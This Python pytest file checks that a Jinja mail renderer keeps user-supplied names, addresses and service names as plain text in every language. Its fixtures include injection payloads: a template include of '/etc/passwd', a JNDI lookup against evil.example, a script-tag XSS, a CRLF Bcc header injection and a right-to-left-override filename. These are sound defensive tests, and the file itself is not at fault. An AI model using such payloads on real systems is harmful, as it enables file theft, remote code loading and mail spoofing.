"""MailRenderer: every kind is complete, and values chosen by users are plain text in it."""

import re
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser
from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.mail.mime import mime_of
from adapters.mail.renderer import JinjaMailRenderer, greeted
from application.operations.mail_delivery import LINKS
from application.ports.database import MailKind
from application.ports.mail_delivery import MailContent, Message
from domain.words.languages import LANGUAGES
from domain.words.words import words_of
from tests.builders import NOW, link_in, new_id

KINDS: tuple[MailKind, ...] = get_args(MailKind)
WITH_LINK = {*LINKS, "invitation", "email-change"}
RENDERER = JinjaMailRenderer("Acme & Sons")
LINK = "https://app.example/reset?lang=en&x=1#email=ada%40example.com&token=secret"
CODE = "7KQ2-M0XA-9ZT1-4HJP"


def write(kind: MailKind = "reset", **more: Any) -> Message:
    link = LINK if kind in WITH_LINK else None
    values = {
        "to": "ada@example.com",
        "name": "Ada Byron",
        "address": "192.0.2.1",
        "at": NOW,
        "link": link,
        "code": CODE,
    }
    letter = MailContent(id=new_id(), kind=kind, **{**values, "lifetime": timedelta(hours=1), **more})
    return RENDERER.write(letter)


class Markup(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str | None] = []
        self.words = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.words += data


@pytest.mark.promise("identity, accounts and mail: Text and HTML; no injection of headers, markup or templates")
@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_is_written_in_both_forms_and_every_language(kind: MailKind, language: str) -> None:
    message, words = write(kind, language=language), words_of(language)
    markup = Markup(message.html)
    assert (message.to, message.subject) == ("ada@example.com", f"Acme & Sons: {words.text(f'mail.{kind}.subject')}")
    assert f'<html lang="{language}" dir="ltr">' in message.html
    for form in (message.text, markup.words):
        assert words.text("mail.greeting-name", {"name": "Ada Byron"}) in form
        assert "Acme & Sons" in form
        assert "None" not in form
        assert not re.search(r"\{\w+\}", form)
        assert (CODE in form) is (kind in WITH_LINK)
    assert markup.links == ([LINK] if kind in WITH_LINK else [])
    if kind in WITH_LINK:
        assert link_in(message) == LINK
    assert all(len(line) <= 100 for line in message.text.splitlines() if "#" not in line)


def test_an_address_with_an_account_gets_no_link_that_cannot_work() -> None:
    message = write("email-change", has_account=True)
    assert LINK not in message.text
    assert LINK not in message.html
    assert "has an account" in message.text


def test_a_mail_is_of_one_language() -> None:
    message = write("new-device", language="de")
    assert message.subject == "Acme & Sons: Anmeldung mit einem neuen Gerät"
    assert message.text.startswith("Guten Tag Ada Byron,\n\nBei Ihrem Konto bei Acme & Sons")
    assert "Hello" not in message.text + message.html


def test_moments_are_written_as_the_language_does() -> None:
    at = datetime(2026, 3, 9, 7, 5, tzinfo=UTC)
    assert "on 9 March 2026, 07:05 UTC" in write("password-changed", at=at).text.replace("\n", " ")
    assert "am 9. März 2026, 07:05 Uhr (UTC)" in write("password-changed", at=at, language="de").text.replace("\n", " ")


def test_a_value_that_looks_like_a_place_of_a_text_stays_as_it_is() -> None:
    message = write("identity-removed", address="{button}", tenant="{link}")
    assert "from {button}" in message.text
    assert "{link}" in message.text
    assert Markup(message.html).links == []


@pytest.mark.parametrize("name", ["Ada Byron", "Ana-María O’Brien", "Dr. Ada K. Byron", "李小龙", "Мария", "D'Arcy"])
def test_a_name_is_greeted(name: str) -> None:
    assert greeted(name) == name
    assert f"Hello {name}," in write(name=name).text


@pytest.mark.parametrize(
    "name",
    [
        "",
        "   ",
        "{{ 7 * 7 }}",
        "{% include '/etc/passwd' %}",
        "${jndi:ldap://evil.example/x}",
        "<script>alert(1)</script>",
        "evil.example",
        "Win a prize at evil.example",
        "http://evil.example",
        "Ada\r\nBcc: eve@example.org",
        "Ada, your account is blocked: call 555",
        "x" * 61,
        "Ada\u202egnp.exe",
        "ａ．ｂ",
    ],
)
def test_a_name_that_is_none_is_left_out(name: str) -> None:
    message = write(name=name)
    assert "Hello,\n" in message.text
    assert "Hello," in Markup(message.html).words


@pytest.mark.promise("identity, accounts and mail: Text and HTML; no injection of headers, markup or templates")
@given(name=st.text(max_size=80), address=st.text(max_size=40))
def test_no_name_or_address_becomes_markup_or_template(name: str, address: str) -> None:
    plain, message = write("password-changed"), write("password-changed", name=name, address=address)
    assert Markup(message.html).tags == Markup(plain.html).tags
    assert Markup(message.html).links == []
    assert message.subject == plain.subject


def test_what_looks_like_a_template_in_a_value_stays_as_it_is() -> None:
    """Values beside the name too: the service's name, the address."""
    letter = MailContent(
        id=new_id(), kind="password-changed", to="{{7*7}}@example.com", name="", address="{{ 7 * 7 }}", at=NOW
    )
    message = JinjaMailRenderer("{{ 6 * 7 }}\r\nBcc: eve@example.org").write(letter)
    assert "{{ 7 * 7 }}" in message.text
    assert "49" not in message.text + message.html
    assert message.subject.startswith("{{ 6 * 7 }} Bcc: eve@example.org: ")
    mime = message_from_bytes(mime_of(message, "no-reply@example.com").as_bytes(), policy=default)
    assert mime["Bcc"] is None
    assert [address.addr_spec for address in mime["To"].addresses] == ["{{7*7}}@example.com"]


def test_a_link_in_a_mail_can_be_copied_whole() -> None:
    """Quoted-printable breaks long lines; mail readers join them again."""
    message = write()
    mime = message_from_bytes(mime_of(message, "no-reply@example.com").as_bytes(), policy=default)
    body = mime.get_body(("plain",))
    assert body is not None
    assert re.search(re.escape(LINK) + "\r?\n", body.get_content())


@pytest.mark.parametrize(
    ("lifetime", "english", "german"),
    [
        (60, "60 minutes", "60 Minuten"),
        (90, "90 minutes", "90 Minuten"),
        (1440, "24 hours", "24 Stunden"),
        (7 * 1440, "7 days", "7 Tage"),
    ],
)
def test_lifetimes_in_words(lifetime: int, english: str, german: str) -> None:
    minutes = timedelta(minutes=lifetime)
    assert (words_of("en").lifetime(minutes), words_of("de").lifetime(minutes)) == (english, german)
